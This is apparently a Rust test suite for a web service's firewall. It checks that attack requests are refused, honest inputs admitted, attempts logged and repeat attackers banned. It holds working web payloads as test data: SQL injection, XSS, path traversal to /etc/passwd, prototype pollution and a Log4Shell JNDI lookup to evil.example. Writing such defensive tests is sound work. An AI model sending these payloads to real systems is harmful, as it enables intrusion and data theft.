//! Attacks end at the firewall of the example service, and honest requests do not.

use super::{Answer, PASSWORD, Service};
use axum::body::Body;
use http::Request;
use serde_json::{Value, json};

const SQL: &str = "%27+union+select+password+from+users--";

fn get(target: &str) -> Request<Body> {
    Request::get(target).body(Body::empty()).unwrap()
}

fn post(target: &str, body: &Value) -> Request<Body> {
    let request = Request::post(target).header("content-type", "application/json");
    request.body(Body::from(body.to_string())).unwrap()
}

/// That it is the firewall who answers, and how.
fn assert_blocked(answer: &Answer, name: &str) {
    assert_eq!(answer.status, 403, "{name}: {}", answer.body);
    let reference = answer.json()["reference"].clone();
    assert_eq!(reference.as_str().map(str::len), Some(32), "{name}");
    let expected = json!({
        "type": "about:blank", "title": "The request was blocked", "status": 403,
        "code": "request_blocked", "reference": reference,
    });
    assert_eq!(answer.problem(), expected, "{name}");
    for header in ["strict-transport-security", "x-content-type-options"] {
        assert!(answer.headers.contains_key(header), "{name}: {header}");
    }
}

#[tokio::test]
async fn attacks_are_refused_wherever_they_stand() {
    let service = Service::with(&[("RATE_LIMIT", "1000")]).await;
    let ann = service.member("ann@example.com").await;
    let bearer = |mut request: Request<Body>| {
        let value = format!("Bearer {ann}").parse().unwrap();
        request.headers_mut().insert("authorization", value);
        request
    };
    let header = |name, value| {
        let request = Request::get("/health").header(name, value);
        request.body(Body::empty()).unwrap()
    };
    let cases = [
        ("a query", get(&format!("/health?q={SQL}"))),
        (
            "a query of nothing that is there",
            get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        ),
        ("a path", get("/notes/..%2f..%2f..%2fetc%2fpasswd")),
        ("a cookie", header("cookie", "theme=' or 1=1 -- ")),
        (
            "a header",
            header("x-api-version", "${jndi:ldap://evil.example/a}"),
        ),
        (
            "a field",
            post("/login", &json!({"email": "' or 1=1 -- ", "password": "x"})),
        ),
        (
            "a field that nobody reads",
            post(
                "/login",
                &json!({"a": {"b": ["<img src=x onerror=alert(1)>"]}}),
            ),
        ),
        (
            "a key",
            post("/login", &json!({"__proto__": {"admin": true}})),
        ),
        ("a key twice", {
            let body = r#"{"email":"a@example.com","email":"b@example.com","password":"x"}"#;
            let request = Request::post("/login").header("content-type", "application/json");
            request.body(Body::from(body)).unwrap()
        }),
        (
            "script in a note",
            bearer(post(
                "/notes",
                &json!({"title": "x", "html": "<p onclick=alert(1)>"}),
            )),
        ),
        (
            "markup in a name",
            post(
                "/register",
                &json!({"email": "eve@example.com", "password": PASSWORD, "name": "<script src=//evil.example>"}),
            ),
        ),
        (
            "a comment of a query that reads as GraphQL",
            get("/health?query=%7Ba%7D%23%3Cimg%20src=x%20onerror=alert(1)%3E"),
        ),
        (
            "a password within another field",
            post(
                "/login",
                &json!({"email": r#"{"password":"' or 1=1 -- "}"#, "password": "x"}),
            ),
        ),
        ("a cookie by the name of a password", {
            let request = Request::post("/login").header("cookie", "password=' or 1=1 -- ");
            request.body(Body::empty()).unwrap()
        }),
        ("behind more nesting than is looked at", {
            let deep = format!("{}{}", "[".repeat(60), "]".repeat(60));
            let body = format!(r#"{{"x":{deep},"email":"1; drop table users","password":"x"}}"#);
            let request = Request::post("/login").header("content-type", "application/json");
            request.body(Body::from(body)).unwrap()
        }),
        ("the content type of a file", {
            let body = json!({"email": "' or 1=1 -- ", "password": "x"}).to_string();
            let request = Request::post("/login").header("content-type", "image/png");
            request.body(Body::from(body)).unwrap()
        }),
        ("the content type of a form", {
            let request =
                Request::post("/login").header("content-type", "application/x-www-form-urlencoded");
            request.body(Body::from(format!("email={SQL}"))).unwrap()
        }),
    ];
    for (name, request) in cases {
        let answer = service.send(request).await;
        assert_blocked(&answer, name);
    }
}

#[tokio::test]
async fn what_looks_odd_and_is_honest_is_admitted() {
    let service = Service::with(&[("RATE_LIMIT", "1000")]).await;
    let password = "' or 1=1 -- <script>alert(1)</script> ; cat /etc/passwd";
    let account =
        json!({"email": "o'brien+news@example.com", "password": password, "name": "Seán O'Brien"});
    assert_eq!(service.post("/register", &account).await.status, 201);
    let login = json!({"email": "o'brien+news@example.com", "password": password});
    let login = service.post("/login", &login).await;
    assert_eq!(login.status, 200, "{}", login.body);
    let token = login.json()["access_token"].as_str().unwrap().to_owned();
    let notes = [
        (
            "Plan; and drop the rest",
            "<h1>Plan</h1><p class=\"a\">We'll <b>select</b> a table from the list &amp; order by noon.</p>",
            "<h1>Plan</h1><p>We'll <b>select</b> a table from the list &amp; order by noon.</p>",
        ),
        (
            "1 = 1, or is it?",
            "<ul><li>rm -rf is what you must not type</li></ul><a href=\"https://example.com/?a=1&amp;b=2\">x</a>",
            "<ul><li>rm -rf is what you must not type</li></ul><a href=\"https://example.com/?a=1&amp;b=2\" rel=\"nofollow noopener noreferrer\">x</a>",
        ),
        (
            "Gruß aus Köln",
            "<p>SELECT name FROM users WHERE id = 1;</p><img src=\"https://example.com/a.png\" alt=\"it's me\">",
            "<p>SELECT name FROM users WHERE id = 1;</p><img src=\"https://example.com/a.png\" alt=\"it's me\">",
        ),
    ];
    for (title, html, clean) in notes {
        let mut request = post("/notes", &json!({"title": title, "html": html}));
        let value = format!("Bearer {token}").parse().unwrap();
        request.headers_mut().insert("authorization", value);
        let answer = service.send(request).await;
        assert_eq!(
            (answer.status, &answer.json()["html"]),
            (201, &json!(clean))
        );
    }
}

#[tokio::test]
async fn the_administrator_sees_what_was_tried() {
    let service = Service::new().await;
    let admin = service.member("admin@example.com").await;
    let attack = get(&format!("/health?q={SQL}&secret=hunter2"));
    let answer = service.send(attack).await;
    assert_blocked(&answer, "a query");
    let events = service.get("/security/events", Some(&admin)).await.json();
    let mut told = events.as_array().unwrap().iter().filter(|event| {
        let kind = event["event"].as_str().unwrap();
        kind.starts_with("malicious_attack_tool")
    });
    let event = told.next().unwrap();
    assert!(told.next().is_none(), "told twice: {events}");
    assert_eq!(
        (&event["code"], &event["source_ip"]),
        (&json!("sqli"), &json!("127.0.0.1"))
    );
    let details = &event["details"];
    assert_eq!(details["reference"], answer.json()["reference"]);
    assert_eq!(details["action"], "refused", "{event}");
    assert_eq!(details["parameter"], "query:q", "{event}");
    assert!(
        details["rules"].as_str().unwrap().contains("sqli-"),
        "{event}"
    );
    assert!(
        details["excerpt"]
            .as_str()
            .unwrap()
            .contains("union select"),
        "{event}"
    );
    assert!(!event.to_string().contains("hunter2"), "{event}");
}

#[tokio::test]
async fn who_attacks_again_and_again_is_banned() {
    let service = Service::with(&[("BAN_AFTER", "3")]).await;
    for _ in 0..3 {
        let answer = service.send(get(&format!("/health?q={SQL}"))).await;
        assert_blocked(&answer, "an attack");
    }
    let answer = service.get("/health", None).await;
    assert_eq!(
        (answer.status, &answer.json()["code"]),
        (403, &json!("banned"))
    );
}

#[tokio::test(start_paused = true)]
async fn a_body_that_does_not_come_is_not_waited_for() {
    let service = Service::new().await;
    let start = tokio::time::Instant::now();
    for path in ["/login", "/admin/bans", "/nothing"] {
        let body = Body::new(super::Absent { announced: 2 });
        let answer = service.post_raw(path, "application/json", body).await;
        assert_eq!(answer.status, 408, "{path}");
    }
    assert_eq!(start.elapsed().as_secs(), 30);
}
